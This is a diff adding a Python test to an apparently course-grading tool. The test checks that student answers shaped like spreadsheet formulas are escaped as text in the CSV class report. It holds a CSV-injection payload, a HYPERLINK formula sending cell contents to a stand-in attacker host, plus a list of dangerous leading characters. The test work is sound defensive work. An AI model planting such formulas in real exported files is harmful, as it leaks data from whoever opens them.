@@ -523,3 +523,44 @@ def test_a_choice_that_looks_like_maths_is_drawn_as_written(cls, tmp_path):
     assert done.returncode == 0, done.stderr
     assert page.is_file() and table.is_file()
     assert evil in page.read_text(encoding="utf-8")
+
+
+def test_a_choice_that_looks_like_a_formula_stays_text_in_the_csv(cls, tmp_path):
+    """A student's choice "=HYPERLINK(...)" reached the per-item CSV's ``split`` column as
+    it was: a spreadsheet opening the class report would run it. Every text cell of the CSV
+    is written as text (a leading ')."""
+    import json
+    import shutil
+
+    course = tmp_path / "course"
+    shutil.copytree(cls.course, course)
+    from canvastools.records import records_folder
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    # every student rescored from the answer file, each choosing only the formula for one
+    # item: it starts that item's split cell
+    shutil.rmtree(records_folder(course, gen.SIX), ignore_errors=True)
+    changed = 0
+    for path in course.glob(f"*/*/{gen.SIX}/canvastools_answers.json"):
+        try:
+            data = json.loads(path.read_text(encoding="utf-8"))
+            answers = data.get("exercises", data)["cases"]["answer"]
+        except (ValueError, KeyError, TypeError, AttributeError):
+            continue  # the class's broken or odd files stay as they are
+        if path.is_symlink() or not isinstance(answers, dict) or not answers:
+            continue
+        answers[sorted(answers)[0]] = [evil]
+        path.write_text(json.dumps(data), encoding="utf-8")
+        changed += 1
+    assert changed
+    table = course / "r.csv"
+    done = run_cli("report", gen.SIX, "-o", str(course / "r.html"), "--csv", str(table),
+                   cwd=course)
+    assert done.returncode == 0, done.stderr
+    rows = list(csv.DictReader(table.open(encoding="utf-8")))
+    splits = [row["split"] for row in rows if evil in row["split"]]
+    assert splits, rows
+    for row in rows:
+        for name, value in row.items():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
+    assert any(s.startswith("'" + evil) for s in splits), splits
